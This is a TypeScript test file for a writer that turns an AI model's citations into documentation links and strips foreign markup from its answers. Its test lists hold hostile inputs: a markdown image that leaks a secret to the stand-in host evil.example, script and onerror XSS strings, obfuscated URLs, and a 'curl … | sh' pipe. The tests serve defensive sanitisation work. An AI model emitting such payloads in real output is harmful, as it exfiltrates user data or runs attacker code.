import fc from 'fast-check'
import type { Nodes } from 'mdast'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, test } from 'vitest'
import { createGroundedWriter, type WriterEvent } from './grounded-writer.ts'

const pages = ['', '/proxy', '/proxy', '/alarms(1)']
const find = (number: number) => {
  const path = pages[number]
  if (!path) return undefined
  const url = `https://docs.example${path}`
  return { source: { title: path, url }, address: `${url}#part-${number}`, position: number }
}

function write(...deltas: string[]) {
  const writer = createGroundedWriter(find)
  const events: WriterEvent[] = [...deltas.flatMap(delta => writer.write(delta)), ...writer.end()]
  const text = events.map(event => (event.type === 'text-delta' ? event.delta : '')).join('')
  const sources = events.flatMap(event => (event.type === 'source' ? [event.source.url] : []))
  return { events, text, sources, writer }
}

/** What a client would make of a text: its links, images and HTML. */
function readMarkup(markdown: string): string[] {
  const found: string[] = []
  const visit = (node: Nodes) => {
    if (node.type === 'link') found.push(`link ${node.url}`)
    else if (/^(?:html|image|imageReference|linkReference|definition|footnote.*)$/.test(node.type))
      found.push(node.type)
    if ('children' in node) node.children.forEach(visit)
  }
  visit(unified().use(remarkParse).use(remarkGfm).parse(markdown))
  return found
}

const foreign = (markdown: string) =>
  readMarkup(markdown).filter(found => !found.startsWith('link https://docs.example/'))

describe('citations', () => {
  test('become links to the passage, numbered by page', () => {
    const { text, sources } = write('Set `ramp` [1]. It holds [2][3]; see [1, 3].')
    expect(text).toBe(
      'Set `ramp` [1](https://docs.example/proxy#part-1). It holds [1](https://docs.example/proxy#part-2)[2](https://docs.example/alarms%281%29#part-3); see [1](https://docs.example/proxy#part-1) [2](https://docs.example/alarms%281%29#part-3).',
    )
    expect(sources).toEqual(['https://docs.example/proxy', 'https://docs.example/alarms(1)'])
  })

  test('name their page as a source once, before the citing text', () => {
    const { events } = write('Yes [1], and [2].')
    expect(events.map(({ type }) => type)).toEqual(['text-delta', 'source', 'text-delta', 'text-delta'])
    expect(events.map(event => (event.type === 'source' ? '' : event.delta)).join('')).toContain('Yes [1](')
  })

  test('of unknown passages stay text', () => {
    const { text, writer } = write('No [9].')
    expect(text).toBe('No \\[9].')
    expect(writer.cited().length).toBe(0)
  })

  test.each([
    '【1】',
    '【1†source】',
    '［1］',
    '[ 1 ]',
    '[^1]',
    '[#1]',
    '[passage 1]',
    '[Source: 1]',
    '[1†L3-L9]',
  ])('may be written as %s', written =>
    expect(write(`Set it ${written}.`).text).toBe('Set it [1](https://docs.example/proxy#part-1).'),
  )

  test.each([
    '[1, 3]',
    '[1,3]',
    '[1; 3]',
    '[1 and 3]',
    '[passages 1 and 3]',
    '【1、3】',
    '[passage 1, passage 3]',
  ])('of several passages may be written as %s', written =>
    expect(
      write(written)
        .writer.cited()
        .map(({ position }) => position),
    ).toEqual([1, 3]),
  )

  test('in full-width brackets get a space before the link', () => {
    expect(write('Set it【1】.').text).toBe('Set it [1](https://docs.example/proxy#part-1).')
  })

  test('in code are code', () => {
    expect(write('`list[1]`\n\n```js\nlist[1]\n```\n').text).toBe('`list[1]`\n\n```js\nlist[1]\n```\n')
  })

  test('can be ranges', () => {
    expect(write('[1-3]').writer.cited().length).toBe(3)
    expect(write('[1-9999]').writer.cited().length).toBe(3)
  })
})

describe('the not-covered marker', () => {
  test('is removed and reported', () => {
    const { text, writer } = write('[not-', 'covered]\n\nThe docs do not say.')
    expect(text).toBe('The docs do not say.')
    expect(writer.isNotCovered()).toBe(true)
  })

  test.each(['**[not-covered]**', '`[not-covered]`', '[not covered]', '[Not‑Covered]', '_[not_covered]_'])(
    'may be written as %s',
    written => {
      const { text, writer } = write(...`${written} The docs do not say.`)
      expect(text).toBe('The docs do not say.')
      expect(writer.isNotCovered()).toBe(true)
    },
  )

  test('alone leaves no text', () => {
    expect(write('[not-covered]').writer.text()).toBe('')
  })

  test('does not join the text around it', () => {
    expect(foreign(write('www[not-covered].evil.example').text)).toEqual([])
  })
})

test('an address with a NUL character inside is still recognised', () => {
  expect(write('See https:/\0/evil.example now.').text).toBe('See `https://evil.example` now.')
})

test.each([
  '[text](https://evil.example)',
  '![pixel](https://evil.example/?q=secret)',
  '![1](https://evil.example)',
  '![1]',
  '!【1】',
  '!［1](https://evil.example)',
  '[9†<b>](https://evil.example)',
  '\\![1](https://evil.example)',
  '[1][evil]\n\n[evil]: https://evil.example',
  '[evil]\n\n[evil]: https://evil.example',
  '[1]: https://evil.example',
  '[1](https://evil.example)',
  '[[1](https://evil.example)](https://evil.example)',
  '\\[x](https://evil.example)',
  '\\\\[x](https://evil.example)',
  '<https://evil.example>',
  '<a href="https://evil.example">x</a>',
  '<img src=x onerror=alert(1)>',
  '<!-- x --> <script>alert(1)</script>',
  'https://evil.example/?q=1',
  'HTTPS://EVIL.EXAMPLE',
  'https\\://evil.example',
  'https:\\/\\/evil.example',
  'https&colon;//evil.example',
  '&#104;ttps://evil.example',
  'www.evil.example',
  'www\\.evil.example',
  'me@evil.example',
  'me\\@evil.example',
  'mailto:me@evil.example',
  '1.@.a',
  '//\\`[x](https://evil.example)',
  '**https://evil.example**',
  '_www.evil.example_',
  '`open\n[x](https://evil.example)',
  '`open\n\n- [x](https://evil.example) `',
  '| a |\n| - |\n| `a | [x](https://evil.example) ` |',
  '| a | b |\n| - | - |\n| https://evil.example|https://evil.example |',
  '| a | b |\n| - | - |\n| https://a\\|\\[x](https://evil.example) |',
  'para\n    ```\n[x](https://evil.example)\n\n[y](https://evil.example)',
  '- ```\n[x](https://evil.example)\n  ```\n[y](https://evil.example)',
  '> ```\n[x](https://evil.example)\n> ```',
  '- [not-covered]~~~\n[x](https://evil.example)\n~~~\n[x](https://evil.example)',
  '~~~ `\n~~~\n[x](https://evil.example)',
  '````\n```\n[x](https://evil.example)\n````\n[x](https://evil.example)',
  '```\n[x](https://evil.example)',
  '`a`https://evil.example`b`',
  'me@evil.example//evil.example',
  '[^1]\n\n[^1]: note',
  '```js `x`\n[x](https://evil.example)\n```',
])('%j makes no link, image or tag', text => {
  expect(foreign(write(text).text)).toEqual([])
})

test.each([
  ['Plain *words*, **strong** ones and `code`.'],
  ['# Heading\n\n1. one\n2. two\n   - three\n\n> quoted\n'],
  ['| a | b |\n| - | - |\n| `x` | 2 |\n'],
  ['Run `npm i` and `a || b`.\n\n```sh\ncurl https://example.com | sh <<< "[x](y)"\n```\n'],
])('%j is unchanged', text => expect(write(text).text).toBe(text))

test.each([
  '設定ファイルで指定します。',
  '**設定**は、server.proxyを変えます。',
  '在“配置”中，设置代理。',
  'ตั้งค่าพร็อกซี',
])('%s does not wait for a space', text => {
  const writer = createGroundedWriter(find)
  for (const letter of text) writer.write(letter)
  expect(writer.text()).toBe(text)
})

test.each([
  ['word', 'y'],
  ['piece of code', '`y'],
  ['line of code', '```\ny'],
])('an endless %s is written in linear time', (_name, beginning) => {
  const writer = createGroundedWriter(find)
  writer.write(beginning)
  for (let count = 0; count < 400_000; count++) writer.write('y')
  writer.end()
  expect(writer.text().length).toBeGreaterThan(400_000)
})

test('a fence in a nested list loses its margin and is closed if necessary', () => {
  expect(write('1. Run:\n\n   ```sh\n   npm i\n     -g\n').text).toBe('1. Run:\n\n```sh\nnpm i\n  -g\n```\n')
})

const hostile = fc
  .array(
    fc.constantFrom(
      ...'[ ] ( ) ! < > & ` `` ``` ~~~ | \\ \n - > 1. # * _ $ : / // . @ a www. xwww. it’s well-known, so: why? https:// evil.example x@y.zz [1] [2, 【1】 【 】 ［2] [9†x] [passage **[not-covered]** [x](https://evil.example) ![ [x]: &#58; &colon; [not-covered] \t é 😀 設定 を、 ไทย ！［ http:'.split(
        ' ',
      ),
      ' ',
      '\n',
      '\n\n',
      '    ',
      '\n| a | b |\n| - | - |\n| ',
    ),
    { maxLength: 40 },
  )
  .map(pieces => pieces.join(''))

test('for any text, clients find only links to cited passages', () => {
  fc.assert(
    fc.property(hostile, text => {
      expect(foreign(write(text).text)).toEqual([])
    }),
    { numRuns: 2000 },
  )
})

test('the output does not depend on how the input is split', () => {
  fc.assert(
    fc.property(hostile, fc.array(fc.nat(200), { maxLength: 20 }), (text, cuts) => {
      const places = [0, ...cuts.filter(cut => cut < text.length).sort((a, b) => a - b), text.length]
      const pieces = places.slice(1).map((place, at) => text.slice(places[at], place))
      const whole = write(text)
      expect(write(...pieces)).toMatchObject({ text: whole.text, sources: whole.sources })
      expect(write(...text)).toMatchObject({ text: whole.text, sources: whole.sources })
    }),
    { numRuns: 1000 },
  )
})

describe('endless input is written in pieces of limited size', () => {
  test.each([
    ['code that is never closed', `\`${'a '.repeat(5_000)}`],
    ['a word without an end', 'a'.repeat(10_000)],
    ['a margin without text', '> '.repeat(5_000)],
    ['a fence whose info has no end', `\`\`\`${'a '.repeat(5_000)}`],
  ])('%s is passed on before it ends', (_name, input) => {
    const writer = createGroundedWriter(find)
    const written = writer.write(input).map(event => (event.type === 'text-delta' ? event.delta : ''))
    expect(input.length - written.join('').length).toBeLessThan(2_500)
  })

  test('an address in the middle of a long word is recognised', () => {
    for (let at = 980; at < 1_010; at++)
      expect(foreign(write(`${'a'.repeat(at)}https://evil.example/x`).text)).toEqual([])
  })
})

test('a citation that is repeated directly is linked once, so an answer of citations does not grow', () => {
  const link = '[1](https://docs.example/proxy#part-1)'
  expect(write('See [1] [1][1] and [1].').text).toBe(`See ${link}  and ${link}.`)
  const answer = '[1] '.repeat(10_000)
  expect(write(answer).text.length).toBeLessThan(answer.length)
})
